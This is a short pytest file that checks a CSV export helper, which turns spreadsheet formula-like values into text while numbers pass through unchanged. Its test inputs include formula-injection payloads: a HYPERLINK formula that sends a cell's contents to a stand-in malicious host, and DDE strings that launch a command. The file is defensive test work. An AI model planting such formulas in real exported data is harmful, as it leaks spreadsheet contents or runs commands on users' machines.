"""What is exported as .csv is text in Excel where it looks like a formula; numbers stay as they are."""

from __future__ import annotations

import pytest

from registerkit.commands.csv_text import csv_cell

FORMULAS = [
    '=0+HYPERLINK("http://kwaad.voorbeeld/?"&A2,"klik")', "=1", "=cmd|'/c calc'!A1", "+1+cmd|x", "-2+cmd|x", "-2+3", "@SUM(1)",
    "\t=1", " \n=1", "\u200b=1", "\ufeff@A1", "＝1+1", "+A1", "+31 6 12 & x", "-(1)", "--1", "- eerst\n- dan", "-12,50-1",
]  # fmt: skip
PLAIN = ["+31612345678", "+31 (0)6 12-34 56.78", "0612345678", "-12,50", "-1.250,00", "-", "=", "", "a=1", "1-2", "'=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_looks_like_a_formula_becomes_text(text: str) -> None:
    assert f"'{text}" == csv_cell(text)


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_and_other_texts_stay_as_they_are(text: str) -> None:
    assert text == csv_cell(text)


def test_amounts_have_a_comma() -> None:
    assert ["-12,50", "7"] == [csv_cell(-12.5), csv_cell(7)]
